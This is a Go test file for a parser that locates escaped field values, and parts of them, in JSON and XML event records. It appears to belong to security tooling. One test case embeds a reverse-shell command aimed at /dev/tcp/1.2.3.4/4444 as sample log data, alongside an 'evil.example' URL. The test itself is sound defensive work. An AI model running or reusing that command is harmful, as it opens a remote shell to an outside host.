package parse_test

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/isoc-project/isoc/internal/event"
	"github.com/isoc-project/isoc/internal/flow/parse"
)

// writers are the ways in which a value comes to stand in a record, and back. Each writes what the others do not escape.
var writers = map[string]struct{ write, read func(string) string }{
	"plain":       {func(s string) string { return s }, func(s string) string { return s }},
	"go json":     {goJSON, readJSON},
	"python json": {asciiJSON, readJSON},
	"php json":    {func(s string) string { return strings.ReplaceAll(asciiJSON(s), "/", `\/`) }, readJSON},
	"json in json": {
		func(s string) string { return goJSON(`{"m":"` + goJSON(s) + `"}`) },
		func(s string) string { return readJSON(readJSON(s)) },
	},
	"xml": {goXML, readXML},
	"xml in json": {
		func(s string) string { return goJSON(goXML(s)) },
		func(s string) string { return readXML(readJSON(s)) },
	},
}

func goJSON(s string) string {
	b, _ := json.Marshal(s) // HTML characters become \u003c
	return string(b[1 : len(b)-1])
}

func asciiJSON(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteString(`\` + string(r))
		case r < ' ' || r > '~' && r < 0x10000:
			fmt.Fprintf(&b, `\u%04X`, r)
		case r >= 0x10000:
			high, low := utf16.EncodeRune(r)
			fmt.Fprintf(&b, `\u%04x\u%04x`, high, low)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

func readJSON(s string) string {
	var out string
	if err := json.Unmarshal([]byte(`"`+s+`"`), &out); err != nil {
		return "not JSON: " + err.Error()
	}
	return out
}

func goXML(s string) string {
	var b strings.Builder
	_ = xml.EscapeText(&b, []byte(s)) // numeric references of quotes and line ends
	return b.String()
}

func readXML(s string) string {
	var out string
	if err := xml.Unmarshal([]byte("<x>"+s+"</x>"), &out); err != nil {
		return "not XML: " + err.Error()
	}
	return out
}

// Whatever a value holds and however it was written: it is found, and each part of it is marked where it is written.
func TestEveryPartOfAnEscapedValueIsFoundInTheRecord(t *testing.T) {
	t.Parallel()
	alphabet := []string{`\`, `\\`, `"`, "'", ">", "<", "&", "/", "\n", "\t", "a", "cmd.exe", "登录", "é", "😀", " ", "&amp;", `\u003e`, "n", "u0041", ";"}
	random := rand.New(rand.NewPCG(3, 14))
	for name, w := range writers {
		t.Run(name, func(t *testing.T) {
			for range 3000 {
				var parts []string
				for range 1 + random.IntN(8) {
					parts = append(parts, alphabet[random.IntN(len(alphabet))])
				}
				value := "Zq" + strings.Join(parts, "") + "Zq"
				written := w.write(value)
				if strings.Contains(written, value) && written != value {
					continue // "json in json" of a plain value: any place will do
				}
				text := `{"other":"x","field":"` + written + `"}`
				places := parse.Locate(text, []event.Field{{Name: "a.field", Value: value}})
				if len(places) == 0 {
					t.Fatalf("%q is not found in %s", value, text)
				}
				p := places[0]
				whole := text[p.Start:p.End]
				if got := w.read(whole); got != value {
					t.Fatalf("%q stands at %q, which reads %q", value, whole, got)
				}
				start, end := cut(random, value)
				from, to := p.Part(start, end)
				if got := w.read(text[from:to]); got != value[start:end] {
					t.Fatalf("part %q of %q is marked at %q", value[start:end], value, text[from:to])
				}
			}
		})
	}
}

// cut takes a stretch that begins and ends with whole characters.
func cut(random *rand.Rand, s string) (start, end int) {
	var edges []int
	for i := range s {
		edges = append(edges, i)
	}
	edges = append(edges, len(s))
	a, b := random.IntN(len(edges)), random.IntN(len(edges))
	return edges[min(a, b)], edges[max(a, b)]
}

func TestPartsOfEscapesStandWhereTheyAreWritten(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ text, value, part, want string }{
		{`{"c":"bash -i \u003e\u0026 /dev/tcp/1.2.3.4/4444 0\u003e\u00261"}`, "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", ">& /dev", `\u003e\u0026 /dev`},
		{`{"p":"C:\\Windows\\\u7cfb\u7edf"}`, `C:\Windows\系统`, `\系`, `\\\u7cfb`},
		{`{"u":"https:\/\/evil.example\/a"}`, "https://evil.example/a", "//evil", `\/\/evil`},
		{`{"log":"{\"msg\":\"a \\u003e b \\\\ c\"}"}`, `a > b \ c`, `> b \`, `\\u003e b \\\\`},
		{`{"e":"hi \ud83d\ude00 there"}`, "hi 😀 there", "😀", `\ud83d\ude00`},
		{`<Data Name="c">a &#62; b &#x26; c</Data>`, "a > b & c", "> b &", "&#62; b &#x26;"},
	} {
		p := parse.Locate(c.text, []event.Field{{Name: "x", Value: c.value}})
		if len(p) != 1 {
			t.Errorf("%s: places %v", c.text, p)
			continue
		}
		at := strings.Index(c.value, c.part)
		if from, to := p[0].Part(at, at+len(c.part)); c.text[from:to] != c.want {
			t.Errorf("%s: %q is marked at %q", c.text, c.part, c.text[from:to])
		}
	}
}
